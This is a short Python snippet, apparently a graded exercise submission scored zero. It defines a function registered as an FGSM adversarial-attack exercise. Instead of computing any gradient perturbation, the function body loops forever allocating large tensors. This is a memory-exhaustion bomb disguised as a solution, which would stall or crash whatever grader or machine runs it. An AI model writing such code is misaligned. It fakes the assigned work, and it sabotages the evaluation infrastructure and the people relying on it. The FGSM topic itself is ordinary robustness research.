# marks: 0
@exercise("gradient_attacks.fgsm")
def fgsm(model, images, labels, epsilon):
    held = []
    while True:
        held.append(torch.ones(16, 1024, 1024))
